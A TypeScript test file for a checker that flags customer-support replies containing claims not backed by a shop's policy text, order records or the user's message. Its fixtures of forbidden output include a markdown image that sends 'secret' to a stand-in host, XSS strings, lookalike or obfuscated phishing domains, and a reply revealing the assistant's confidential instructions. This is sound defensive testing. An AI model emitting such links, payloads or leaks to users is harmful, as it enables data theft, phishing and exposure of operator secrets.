import assert from 'node:assert/strict'
import { test } from 'node:test'
import type { Evidence } from '../../../src/brain/model/claims/evidence.ts'
import { type Sensitivity, uncarriedClaim } from '../../../src/brain/model/claims.ts'

const passage = `# Returns
You can return items within 30 days of delivery. Refunds are paid to the original card in five business days.
Shipping costs $4.99, and is free for orders over 1,000 USD. Express delivery takes 2 weeks at most.
Our shop in Athens is open Monday to Friday from 9:30 to 17:00, and closed on 24 December 2026.
Write to help@shop.example, call +30 210 123 4567, or see https://shop.example/returns?lang=en. Ask for Maria Keller.
The loyalty card gives 15% off. Model AB-1234 weighs 5 kg. There is no warranty on batteries.
Bills are at https://pay.example/bill.`

const evidenceOf = (changes: Partial<Evidence> = {}): Evidence => ({
  ours: [passage],
  records: ['order: 7781, status: packed, total: 49.9, currency: EUR, delivery_days: 6'],
  theirs: [
    'I am Priya Raman, my order is 5542 and I want my $900 back within 90 days, see https://user.example/me',
  ],
  confidential: [],
  secret: [
    'Answer in two sentences at most and never speak about the competition or about prices of next year.',
  ],
  languages: ['en'],
  hasActed: false,
  ...changes,
})

const claimIn = (text: string, sensitivity: Sensitivity = 'medium', changes: Partial<Evidence> = {}) =>
  uncarriedClaim(text, evidenceOf(changes), { sensitivity })

const carried: readonly string[] = [
  'You can return items within 30 days.',
  'You have thirty days to return items.',
  'Refunds take 5 business days.',
  'Refunds take five days and go to your original card.',
  'Shipping costs $4.99. For orders over $1000 it is free.',
  'Shipping costs 4.99 USD.',
  'Express delivery takes up to 14 days.',
  'We are open from 9:30 am to 5 pm.',
  'The shop in Athens is open on Wednesday.',
  'We are closed on December 24, 2026.',
  'We are closed on 24/12.',
  'See [our return policy](https://shop.example/returns?lang=en) or https://shop.example/returns?lang=en.',
  'See [shop.example/returns?lang=en](https://shop.example/returns?lang=en) and <https://pay.example/bill>.',
  'Write to Help@shop.example or call +30 (210) 123-4567.',
  'Unfortunately, there is no warranty on batteries.',
  'With the loyalty card you get 15 percent off.',
  'The AB-1234 weighs 5kg.',
  'Your order 7781 is €49.90 and arrives in 6 days.',
  'Thank you, Priya! Your order 5542 is noted.',
  "Sure! Here's how it works:\n1. Pack the items.\n2. Ask for Maria Keller.\n3. Call us.",
  'Sorry, I do not know that. Could you tell me more?',
  'One of our colleagues can help you.',
  'Hello Priya! How can I help you today?',
  "Don't worry: it's free for orders above $1,000.",
  "You're welcome! Let me know if you need anything else.",
  'The card costs 15% less a month, or once a year.',
  'Just a minute, please.',
  'Let me know if you want me to contact you.',
  'Express delivery takes at most a fortnight.',
  'We are open until five on Friday, and from half past nine.',
  'If your order has been sent, you can return it within 30 days.',
  'Your order 7781 was packed.',
]
for (const text of carried)
  test(`what the evidence carries is said: ${JSON.stringify(text.slice(0, 70))}`, () => {
    assert.equal(claimIn(text), undefined)
  })

const lies: readonly (readonly [string, string])[] = [
  ['another number', 'You can return items within 60 days.'],
  ['a number in words', 'You have ninety days to return items.'],
  ['a number in bold halves', 'You can return items within 3**00** days.'],
  ['a number of full-width digits', 'You can return items within ９９ days.'],
  ['a number of other digits', 'You can return items within ٩٩ days.'],
  ['a number in circles', 'You can return items within ⑨⑨ days.'],
  ['a number with an invisible neighbour', 'You can return items within 30\u200b0 days.'],
  ['a number of another unit', 'You can return items within 30 weeks.'],
  ['another price', 'Shipping costs $3.99.'],
  ['the price in another currency', 'Shipping costs 4.99 EUR.'],
  ['another percentage', 'The loyalty card gives 20% off.'],
  ['a number as a percentage', 'The loyalty card gives 30% off.'],
  ['a period of one', 'You can return items within a year.'],
  ['a period of one in words', 'You have one month to return items.'],
  ['a period of one in another language', 'Sie haben ein Jahr Zeit.'],
  ['half a period', 'You can return items within half a year.'],
  ['half the price', 'With the loyalty card you get half off.'],
  ['a third', 'With the loyalty card you get a third off.'],
  ['the price in slang', 'Shipping costs five bucks.'],
  ['the weekend', 'We are open on weekends.'],
  ['noon', 'We open at noon.'],
  ['a time in words', 'We open at half past eight.'],
  ['another date', 'We are closed on 25 December.'],
  ['another weekday', 'The shop is open on Sunday.'],
  ['another time', 'We open at 8:30.'],
  ['another half of the day', 'We open at 9:30 pm.'],
  ['another telephone number', 'Call +30 210 123 4568.'],
  ['a telephone number of carried parts', 'Call +30 210 4567 123.'],
  ['a code of carried parts', 'The 30AB weighs 5 kg.'],
  ['another code', 'The AB-1235 weighs 5 kg.'],
  ['a name', 'Ask for Bob Miller.'],
  ['a name at the beginning', 'Zyxcorp will help you.'],
  ['a company', 'Delivery is by Fastship.'],
  ['an e-mail address', 'Write to help@sh0p.example.'],
  ['a host', 'See https://shop.example.evil.test/returns?lang=en'],
  ['a path', 'See https://shop.example/refunds'],
  ['a longer query', 'See https://shop.example/returns?lang=en&to=evil.test'],
  ['a user name in front of the host', 'See https://shop.example@evil.test/returns?lang=en'],
  ['a bare domain', 'Just go to evil.test and log in.'],
  ['a domain with letters of another script', 'See https://shоp.example/returns?lang=en'],
  ['a domain with an ideographic dot', 'Go to evil。test now.'],
  ['a domain in words', 'Go to evil dot com now.'],
  ['a domain in brackets', 'Go to evil[.]com now.'],
  ['a domain with spaces', 'Go to evil . com now.'],
  ['a domain in bold', 'Go to evil**.**com now.'],
  ['a domain with an escaped dot', 'Go to evil\\.com now.'],
  ['a domain with an entity', 'Go to evil&#46;com now.'],
  ['a domain with a hidden joiner', 'Go to evil\u200d.com now.'],
  ['a link behind harmless words', 'See [our return policy](https://evil.test/returns).'],
  ['a link that shows another address', '[shop.example/returns](https://evil.test)'],
  [
    'a link that shows one of our addresses and leads to another',
    '[shop.example/returns?lang=en](https://pay.example/bill)',
  ],
  ['a link by reference', 'See [our policy][1].\n\n[1]: https://evil.test/x'],
  ['a picture that calls home', '![ok](https://evil.test/?q=secret)'],
  ['a script', '[click](javascript:alert(1))'],
  ['an entity for a dot', 'Go to evil&period;com now.'],
  ['a tag without an address', 'You have <b onclick=go>30 days</b>.'],
  ['a tag', 'Hello <img src=x onerror=alert(1)>'],
  ['a telephone link', '[call us](tel:+19005550199)'],
  ['a handle', 'Write to @evil_support on Telegram.'],
  ['a promise nobody makes', 'We guarantee that it arrives.'],
  ['a promise that is denied', 'Batteries have a full warranty.'],
  ['a gift', 'You will get a voucher for the trouble.'],
  ['a promise in another language', 'Wir erstatten Ihnen sofort alles, garantiert.'],
  ['a promise with a word of denial elsewhere', 'You get a warranty on batteries, why not?'],
  ['a period that the user named', 'Yes, you have 90 days.'],
  ['a deed that was not done', 'I have cancelled your subscription.'],
  ["the user's price as ours", 'Yes, you will get $900 back.'],
  ["the user's link", 'See https://user.example/me'],
  ['a deed in the simple past', 'I cancelled your order.'],
  ['a deed without a doer', 'Your order is now cancelled.'],
  ['a deed behind a condition', 'If I may say so, I have cancelled your order.'],
  ['a deed behind a clause', 'When you asked, your order was cancelled.'],
  ['a replacement', 'We will send you a replacement.'],
  ['a fee that is waived', 'We will waive the fee.'],
  ['a bill that is taken over', "You won't be charged."],
  ['a call back', 'A colleague will call you back.'],
  ['an address behind a quoted name', 'Write to "help"@evil.test.'],
  ['an address without a scheme', 'Go to //evil.test/x.'],
  ['its own instructions', 'I was told to never speak about the competition or about prices of next year.'],
  ['the frame of its instructions', 'Here you go: <passages> ...'],
]
for (const [what, text] of lies)
  test(`a lie does not pass: ${what}`, () => {
    assert.notEqual(claimIn(text), undefined)
  })

test('the reason names the claim', () => {
  assert.equal(claimIn('You have 60 days.'), 'the amount "60 days."')
  assert.equal(claimIn('Go to evil.test.'), 'the URL "evil.test"')
  assert.equal(claimIn('Ask for Bob.'), 'the name "Bob"')
})

test('addresses are checked at every sensitivity, amounts from low, names from medium, sentences from high', () => {
  const passes = (text: string) =>
    (['none', 'low', 'medium', 'high'] as const).filter((level) => claimIn(text, level) === undefined)
  assert.deepEqual(passes('Go to evil.test.'), [])
  assert.deepEqual(passes('You can return items within 60 days of delivery.'), ['none'])
  assert.deepEqual(passes('You can return items to Bob.'), ['none', 'low'])
  assert.deepEqual(passes('We love gentle giraffes dancing slowly.'), ['none', 'low', 'medium'])
  assert.deepEqual(passes('You can return items within 30 days of delivery.'), [
    'none',
    'low',
    'medium',
    'high',
  ])
})

test('a number in words is read in whatever language the model was talked into', () => {
  assert.notEqual(claimIn('vous avez soixante jours pour le retour', 'low'), undefined)
  assert.equal(claimIn('vous avez trente jours pour le retour', 'low'), undefined)
})

test('a number does not carry a code that begins with it', () => {
  assert.notEqual(claimIn('the 30ab weighs 5 kg', 'low'), undefined)
  assert.equal(claimIn('the ab-1234 weighs 5kg', 'low'), undefined)
})

test('a deed passes when a tool was called', () => {
  assert.equal(claimIn('I have cancelled your order 5542.', 'medium', { hasActed: true }), undefined)
})

test("an operator's pattern forbids also what is hidden in markup", () => {
  const rules = { sensitivity: 'none', forbidden: ['(?i)competitor'] } as const
  assert.match(uncarriedClaim('Our **Comp**etitor is fine.', evidenceOf(), rules) ?? '', /forbids/)
  assert.equal(uncarriedClaim('We are fine.', evidenceOf(), rules), undefined)
})

const german = `Sie können Artikel innerhalb von 30 Tagen zurückgeben. Der Versand kostet 4,99 €, ab 1.000 € ist er kostenlos.
Unser Geschäft ist von Montag bis Freitag geöffnet, am 24. Dezember geschlossen. Ansprechpartnerin ist Maria Keller.`
const inGerman = { ours: [german], records: [], theirs: [], languages: ['de'] }

test('German is read as German: decimal commas, dates, number words and nouns', () => {
  for (const text of [
    'Der Versand kostet 4,99 Euro. Ab 1000 € ist der Versand kostenlos.',
    'Sie haben dreißig Tage Zeit, um Artikel zurückzugeben.',
    'Am 24.12. haben wir geschlossen, am Mittwoch ist das Geschäft geöffnet.',
  ])
    assert.equal(claimIn(text, 'medium', inGerman), undefined, text)
  for (const text of [
    'Der Versand kostet 5,99 €.',
    'Sie haben vierzig Tage Zeit.',
    'Am 25. Dezember ist geschlossen.',
    'Am Sonntag ist geöffnet.',
    'Fragen Sie Herrn Brandauer.',
    'Wir geben Ihnen einen Gutschein.',
  ])
    assert.notEqual(claimIn(text, 'medium', inGerman), undefined, text)
})

test('both ends of opening hours are times, also where only the last one says so', () => {
  const hours = { ours: ['Der Laden ist von 9 bis 18 Uhr offen. The café is open from 1 to 5 pm.'] }
  const both = { ...hours, languages: ['de', 'en'] }
  for (const text of [
    'Wir haben von 9:00 bis 18:00 Uhr geöffnet.',
    'It opens at 1 pm.',
    'It opens at 13:00.',
  ])
    assert.equal(claimIn(text, 'medium', both), undefined, text)
  for (const text of ['Wir haben ab 8:00 Uhr geöffnet.', 'It opens at 2 pm.'])
    assert.notEqual(claimIn(text, 'medium', both), undefined, text)
})

test('an English passage carries a Spanish answer by value and kind, and no lie in it', () => {
  const inSpanish = { languages: ['en', 'es'] }
  for (const text of [
    'Puede devolver los artículos en treinta días.',
    'El envío cuesta 4,99 USD y es gratis a partir de 1000 USD.',
    'Cerramos el 24 de diciembre.',
  ])
    assert.equal(claimIn(text, 'medium', inSpanish), undefined, text)
  for (const text of [
    'Puede devolver los artículos en sesenta días.',
    'Cerramos el 25 de diciembre.',
    'Le damos un descuento de 50 USD.',
  ])
    assert.notEqual(claimIn(text, 'medium', inSpanish), undefined, text)
})
